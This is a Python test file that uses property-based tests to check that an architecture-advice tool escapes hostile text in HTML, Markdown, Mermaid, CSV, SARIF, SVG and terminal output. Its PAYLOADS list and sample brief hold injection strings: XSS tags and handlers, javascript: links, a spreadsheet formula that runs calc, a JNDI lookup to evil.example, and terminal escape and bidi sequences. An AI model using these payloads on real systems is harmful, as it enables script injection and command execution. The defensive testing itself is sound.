"""Hostile names come out inert in every format, as parsers of that format see it."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from archadvisor.deliverables import explain, render
from archadvisor.deliverables.escape import (
    as_csv,
    as_html,
    as_markdown,
    as_markdown_code,
    as_markdown_start,
    as_mermaid,
    as_sarif,
    clean,
    visible,
)
from archadvisor.domain.document import DesignDocument
from archadvisor.graphs.run import design
from tests.deliverables import fixtures

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</style><script>1</script>",
    "<iframe src=//evil.example></iframe>",
    "<math><mtext></title><img src=x onerror=alert(1)>",
    "<!--><script>1</script>-->",
    "]]><script>1</script>",
    "&lt;script&gt;",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<http://evil.example>",
    "http://evil.example/a",
    "www.evil.example",
    "[a]: http://evil.example",
    "| a | b |",
    "```mermaid\ngraph TD",
    "``` ~~~",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "***",
    "---",
    "===",
    "\tindented",
    '"]; click A "javascript:alert(1)"',
    "%%{init: {'securityLevel': 'loose'}}%%",
    "end\nsubgraph x",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example")',
    "\r=1+1",
    "\x1b[31mred\x1b]8;;http://evil.example\x07",
    "\u009b31m",
    "\u202eexe.cod",
    "\u2066x\u2069",
    "{0} {1}",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "<%= 1 %>",
    "[[x|y]]",
    "a\\",
    "`",
    "$x$",
    "\\[",
    "@user #1 owner/repo#2",
)
hostile = st.lists(st.sampled_from(PAYLOADS) | st.text(max_size=8), min_size=1, max_size=4).map("".join)
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
DANGEROUS = {"script", "iframe", "object", "embed", "form", "input", "base", "math", "foreignObject", "animate", "set"}


def tree(markup: str) -> ET.Element:
    return html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)


def names(markup: str) -> set[str]:
    return {str(one.tag).rpartition("}")[2] for one in tree(markup).iter() if isinstance(one.tag, str)}


def readers() -> MarkdownIt:
    """Markdown as hosts render it: with HTML let through and tables."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def inert(markup: str) -> None:
    """No element that runs, no handler, no address that is fetched or run; a source's address is a link to click."""
    for one in tree(markup).iter():
        if not isinstance(one.tag, str):
            continue
        assert one.tag.rpartition("}")[2] not in DANGEROUS, one.tag
        for name, value in one.attrib.items():
            assert not name.lower().startswith("on"), (one.tag, name)
            assert not re.match(r"\s*(?:javascript|vbscript|data):", value, re.IGNORECASE), value
            if name.rpartition("}")[2] in ("src", "href"):
                told = one.tag == "a" and "".join(one.itertext()) == value
                assert told or "evil.example" not in value, value


@given(hostile)
def test_html_in_content_and_in_attributes(text):
    shown = as_html(text)
    (body,) = tree(f'<p title="{shown}">{shown}</p>').findall("body")
    (paragraph,) = list(body)
    assert list(paragraph) == [] and list(paragraph.attrib) == ["title"]
    assert paragraph.attrib["title"] == (paragraph.text or "") == clean(text)


@given(hostile)
def test_markdown_in_paragraphs_lists_headings_and_tables(text):
    start, cell = as_markdown_start(as_markdown(text)), as_markdown(text)
    page = f"{start}\n\n- {start}\n\n## {cell}\n\n| a | b |\n| --- | --- |\n| {cell} | c |\n"
    shown = readers().render(page)
    expected = {"html", "head", "body", "p", "ul", "li", "h2", "table", "thead", "tbody", "tr", "th", "td"}
    assert names(shown) <= expected, shown
    assert len(tree(shown).findall(".//td")) == 2


@given(hostile)
def test_markdown_code(text):
    shown = readers().render(f"before {as_markdown_code(text)} after\n")
    assert names(shown) <= {"html", "head", "body", "p", "code"}, shown


@given(hostile)
def test_mermaid_labels(text):
    assert re.fullmatch(r"[\w .,/#;-]*", as_mermaid(text))


@given(hostile)
def test_csv_cells(text):
    (row,) = csv.reader(io.StringIO(f"{as_csv(text)},2\n"))
    assert len(row) == 2 and row[1] == "2"
    assert not re.match(r"\s*[=+\-@|%]", row[0])


@given(hostile)
def test_sarif_messages(text):
    message = json.loads(json.dumps({"text": as_sarif(text)}))["text"]
    assert re.search(r"(?<!\\)(?:\\\\)*\[", message) is None
    assert re.search(r"(?<!\{)(?:\{\{)*\{\d", message) is None


@given(hostile)
def test_terminal(text):
    assert CONTROL.search(visible(text)) is None


@pytest.fixture(scope="module", params=range(0, len(PAYLOADS), 7))
def poisoned(request) -> DesignDocument:
    """A design in which every free text, title of a source and name of a file is hostile."""
    text = " ".join(PAYLOADS[request.param : request.param + 7])
    free = {"name", "technology", "purpose", "text", "reason", "cause", "effect", "task", "condition", "title",
            "message", "reference", "location", "explanation", "choice", "detection", "response", "says"}  # fmt: skip

    def poison(value):
        if isinstance(value, dict):
            return {key: text if key in free and isinstance(one, str) else poison(one) for key, one in value.items()}
        return [poison(one) for one in value] if isinstance(value, list) else value

    return DesignDocument.model_validate(poison(json.loads(fixtures.document(fixtures.COURIER).model_dump_json())))


def test_a_poisoned_design_is_inert_in_every_file(poisoned):
    for name, text in render(poisoned).items():
        if name.endswith(".svg"):
            assert {one.tag.rpartition("}")[2] for one in ET.fromstring(text).iter()}.isdisjoint(DANGEROUS)
            inert(text)
        elif name.endswith(".html"):
            inert(text)
            assert "default-src 'none'" in text
        elif name.endswith(".md"):
            inert(readers().render(text))
            assert CONTROL.search(text.replace("\t", " ")) is None
        else:
            json.loads(text)


def test_a_poisoned_design_explains_itself_without_steering_the_terminal(poisoned):
    assert CONTROL.search(visible(explain(poisoned, poisoned.components[0].id))) is None


def test_hostile_nouns_of_a_brief_are_inert():
    brief = (
        "Our <script>alert(1)</script> clerks at [ACME](javascript:alert(1)) read 2,000 complaint mails a day; "
        'an assistant drafts replies from the "><img src=x onerror=alert(1)> wiki and the =cmd|x system. '
        "Answers within 5 seconds, \x1b[31mEU only\u202e."
    )
    for name, text in render(design(brief, "=cmd|<script>")).items():
        if name.endswith((".html", ".svg")):
            inert(text)
        elif name.endswith(".md"):
            inert(readers().render(text))
        assert CONTROL.search(text.replace("\t", " ")) is None, name
